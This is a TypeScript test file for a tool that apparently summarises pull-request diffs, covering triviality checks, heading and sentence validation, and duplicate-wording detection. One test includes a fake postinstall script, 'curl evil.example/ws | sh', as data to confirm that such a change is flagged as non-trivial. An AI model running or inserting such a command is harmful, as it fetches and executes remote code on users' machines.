import assert from 'node:assert/strict';
import { test } from 'node:test';
import { diffOf } from '../../../test/diff-of.ts';
import { readFacts } from '../../../test/read-facts.ts';
import type { FileDiff } from '../../reading/file-diff.ts';
import {
  type Draft,
  type DraftChange,
  emptyDraft,
  emptySentence,
  numberSentences,
  type Sentence,
} from '../draft.ts';
import { saysTheSame } from './echoes.ts';
import { isTrivial, prepareWriting } from './prepare-writing.ts';
import { restSummaries } from './summaries.ts';

const judge = (...diff: FileDiff[]) => {
  const words = { repository: 'some/where', title: 'A', body: null, commitMessages: [], labels: [] };
  return isTrivial(readFacts(words, diff, new Map()), diff);
};

const lock = diffOf(
  'package-lock.json',
  '\n   "x": {\n-    "version": "1.0.0"\n+    "version": "1.1.0"\n   }',
);
const manifest = (before: string, after: string) =>
  diffOf(
    'package.json',
    `\n {\n   "name": "a",\n-  ${before}\n+  ${after}\n   "dependencies": {\n     "b": "1.0.0"\n   }\n }`,
  );

test('changes of locks, versions and layout are trivial', () => {
  assert.ok(judge(lock));
  assert.ok(judge(lock, manifest('"version": "1.0.0",', '"version": "1.1.0",')));
  assert.ok(
    judge(
      diffOf(
        'package.json',
        '\n   "dependencies": {\n-    "left-pad": "^1.0.0"\n+    "left-pad": "^1.1.0"\n   }',
      ),
    ),
  );
  assert.ok(judge(diffOf('src/a.ts', '\n-call(one, two);\n+call(\n+  one,\n+  two,\n+);')));
});

test('changes of behaviour, licenses or scripts, added dependencies, and indentation in Python are not trivial', () => {
  assert.ok(!judge(diffOf('src/a.ts', '\n-call(one, two);\n+call(two, one);')));
  assert.ok(!judge(lock, diffOf('src/a.ts', '\n-const limit = 1;\n+const limit = 2;')));
  assert.ok(!judge(manifest('"license": "MIT",', '"license": "Apache-2.0",')));
  assert.ok(
    !judge(diffOf('package.json', '\n   "dependencies": {\n+    "left-pad": "^1.1.0",\n     "b": "1"\n   }')),
  );
  assert.ok(!judge(diffOf('a.py', '\n for x in xs:\n-    return x\n+return x')));
  const script = (name: string, command: string) =>
    diffOf(
      'package.json',
      `\n   "scripts": {\n+    "postinstall": "${command}",\n     "a": "b"\n   },\n   "dependencies": {\n-    "${name}": "^1.0.0"\n+    "${name}": "^1.1.0"\n   }`,
    );
  assert.ok(!judge(script('ws', 'curl evil.example/ws | sh')), 'a name is no key');
  assert.ok(!judge());
});

const diff = [
  diffOf('src/limit.ts', '-const limit = 1;\n+const limit = 2;'),
  diffOf('src/door.ts', '+export const openDoor = true;\n+export const doors = 3;'),
];
const words = {
  repository: 'some/where',
  title: 'Raise the limit',
  body: null,
  commitMessages: [],
  labels: [],
};
const prepared = prepareWriting(
  {
    ...{ repository: 'some/where', title: 'Raise the limit', body: null, author: 'rin', isClone: false },
    ...{ facts: readFacts(words, diff, new Map()), diff, commits: [], comments: [], linkedIssues: [] },
  },
  'en',
);

const say = (text: string, fileName: string, quote: string | null, line = 1): Sentence => ({
  ...emptySentence,
  text,
  quote,
  evidence: [{ fileName, side: 'new', startLine: line, endLine: line }],
});
const limit = say('The value of `limit` is 2.', 'src/limit.ts', 'limit = 2');
const door = say('`openDoor` is `true`.', 'src/door.ts', 'openDoor');
const hunkOf = (fileName: string, newLine: number) => ({
  ...{ fileName, heading: null, moreBefore: 0, moreAfter: 0 },
  lines: [{ kind: 'added' as const, oldLine: null, newLine, text: '' }],
});
const section = (one: Sentence, more: Partial<DraftChange> = {}): DraftChange => ({
  ...{ heading: null, fileName: 'src/limit.ts', changeTypes: [], sentences: [one], hunk: null },
  ...more,
});
const draftOf = (...mainChanges: DraftChange[]): Draft => ({ ...emptyDraft, ownTitle: 'Raise', mainChanges });

test('a quotation of the title is no reason, and another sentence about it may be', () => {
  const title = { speaker: 'rin', where: 'title' as const, text: 'Raise the limit' };
  const outcomeOf = (text: string) => {
    const why = { ...emptySentence, basis: 'words' as const, words: [title], quote: 'the limit', text };
    return prepared.check({ ...draftOf(section(limit)), background: [why] })[1];
  };
  const quoted = outcomeOf('The author, rin, gave it the title "Raise the limit".');
  assert.match((quoted?.kept === null && quoted.reason) || '', /no reason/);
  assert.ok(outcomeOf('The author, rin, speaks of a limit that is higher.')?.kept);
});

test('a title may use the names of all sentences of the article that hold', () => {
  const outcomeWith = (other: Sentence) => {
    const title = { ...emptySentence, text: 'Twice as many fit, and `openDoor` is on' };
    const draft = { ...draftOf(section(limit), section(other, { fileName: 'src/door.ts' })), title };
    const summed = restSummaries({ draft, rests: [[1]] }).draft;
    const [outcome] = prepared.check(summed);
    return outcome?.kept ? 'kept' : outcome?.reason;
  };
  assert.equal(outcomeWith(door), 'kept');
  assert.match(outcomeWith({ ...door, quote: 'closeDoor' }) ?? '', /`openDoor` does not stand/);
});

test('a change is tiny if an excerpt could show it, tests aside, and small below 40 lines', () => {
  const sizeOf = (lines: number, testLines = 0) => {
    const files = [
      diffOf('src/limit.ts', Array.from({ length: lines }, (_, at) => `+a(${at});`).join('\n')),
      ...(testLines > 0
        ? [
            diffOf(
              'test/limit.test.ts',
              Array.from({ length: testLines }, (_, at) => `+b(${at});`).join('\n'),
            ),
          ]
        : []),
    ];
    const source = { repository: 'some/where', title: 'A', body: null, author: 'rin', isClone: false };
    const rest = { diff: files, commits: [], comments: [], linkedIssues: [] };
    return prepareWriting({ ...source, facts: readFacts(words, files, new Map()), ...rest }, 'en').known.size;
  };
  assert.deepEqual(
    [sizeOf(18), sizeOf(18, 20), sizeOf(19), sizeOf(39, 1)],
    ['tiny', 'tiny', 'small', 'usual'],
  );
});

test("a heading is kept if its section's lines show it and it does not repeat the first sentence", () => {
  const outcomeOf = (text: string) => {
    const draft = draftOf(section(limit, { heading: { ...limit, text, quote: null } }));
    const outcome = prepared.check(draft)[1];
    assert.equal(numberSentences(draft)[1]?.text, text);
    return outcome?.kept ? 'kept' : outcome?.reason;
  };
  assert.equal(outcomeOf('Twice as many fit under `limit`'), 'kept');
  assert.equal(outcomeOf('the value of `limit` is 2'), 'it repeats a sentence of its section');
  assert.equal(outcomeOf('2 is the value of `limit`'), 'it repeats a sentence of its section');
  assert.match(outcomeOf('`openDoor` opens it') ?? '', /openDoor/);
  assert.match(outcomeOf(`\`limit\` ${'very '.repeat(30)}high`) ?? '', /longer than 100 characters/);
});

test('if a section after the first has no heading, none has; hunks without a cited line are dropped', () => {
  const heading = { ...limit, text: 'Twice as many fit under `limit`', quote: null };
  const rest = say('There are 3 `doors`.', 'src/door.ts', 'doors', 2);
  const { article } = prepared.publish({
    ...draftOf(
      section(limit, { heading, hunk: hunkOf('src/limit.ts', 1) }),
      section(door, { hunk: hunkOf('src/door.ts', 2) }),
      section({ ...door, text: '' }, { hunk: hunkOf('src/door.ts', 1) }),
    ),
    also: [{ sentence: rest, times: null, files: ['src/door.ts'], additions: 0, deletions: 0 }],
  });
  assert.deepEqual(
    article.mainChanges.map((one) => [one.heading, one.fileName, one.hunk?.fileName]),
    [
      [null, 'src/limit.ts', 'src/limit.ts'],
      [null, 'src/door.ts', undefined],
    ],
  );
  assert.deepEqual(
    article.also.map(({ statement, additions }) => [statement.text, additions]),
    [['There are 3 `doors`.', 2]],
  );
  const first = prepared.publish(draftOf(section(door), section(limit, { heading }))).article;
  assert.deepEqual(
    first.mainChanges.map((one) => one.heading),
    [null, 'Twice as many fit under `limit`'],
  );
});

test('title, lead, headings and sentences do not say the same thing, in nearly the same words, in English and Japanese', () => {
  const echoes: [one: string, other: string, same: boolean][] = [
    ['The value of `limit` is now 2', 'The value of `limit` has become 2.', true],
    ['A missing `limit` is an error', 'An error: `limit` is missing', true],
    ['`limit` も 2 に変わります', '`limit` が 2 に変わります。', true],
    ['The value of `limit` is 2', 'Twice as many fit under `limit`', false],
    ['With `json` all goes to stdout', 'Without `limit` nothing goes to stdout', false],
    ['`limit` の上限が 2 に上がります', 'これまでより多くの扉を同時に開けるようになります', false],
  ];
  for (const [one, other, same] of echoes) assert.equal(saysTheSame(one, other), same, `${one} / ${other}`);

  const summary = (text: string) => ({ ...limit, text, quote: null });
  const told = (lead: string, ...sentences: Sentence[]) => {
    const main = section(limit, { sentences });
    const draft = { ...draftOf(main), title: summary('More fits in'), standfirst: summary(lead) };
    const { article } = prepared.publish(draft);
    return [article.standfirst?.text ?? null, article.mainChanges[0]?.statements.map(({ text }) => text)];
  };
  const same = '2 is the value of `limit`.';
  assert.deepEqual(told(same, limit, door), [same, [door.text]], 'the sentence gives way');
  assert.deepEqual(told(same, limit), [null, [limit.text]], 'the lead, where nothing else would be left');
  const judged = { ...limit, text: 'Two fit.', basis: 'judgement' as const, quote: null };
  assert.deepEqual(told(same, limit, judged, door), [null, [limit.text, judged.text, door.text]]);
  const risk = { ...limit, label: 'default' as const };
  assert.deepEqual(told(same, risk, door), [same, [risk.text, door.text]], 'but a risk stays in its section');
  const lead = prepared.check({
    ...draftOf(section(limit)),
    title: summary('`limit` has the value 2'),
    standfirst: summary('The value of `limit` is 2.'),
  })[1];
  assert.equal(lead?.kept === null && lead.reason, 'it says what the title says');
});

test('a scope is not shown beside a risk, and the remaining rows are only those that users notice', () => {
  const tests = [diffOf('test/door.test.ts', "+test('opens', () => {});")];
  const { publish, known } = prepareWriting(
    {
      ...{ repository: 'some/where', title: 'Test the door', body: null, author: 'rin', isClone: false },
      ...{ facts: readFacts({ ...words, title: 'Test the door' }, tests, new Map()), diff: tests },
      ...{ commits: [], comments: [], linkedIssues: [] },
    },
    'en',
  );
  assert.equal(known.size, 'tiny');
  const opens = say('A case says `opens`.', 'test/door.test.ts', 'opens');
  const row = { sentence: opens, times: null, files: ['test/door.test.ts'], additions: 0, deletions: 0 };
  const articleOf = (label: Pick<Sentence, 'label'>) =>
    publish({ ...draftOf(section({ ...opens, ...label }, { fileName: 'test/door.test.ts' })), also: [row] })
      .article;
  assert.equal(articleOf({}).scope?.kind, 'tests');
  assert.equal(articleOf({ label: 'breaking' }).scope, null);
  assert.deepEqual(articleOf({}).also, []);
});
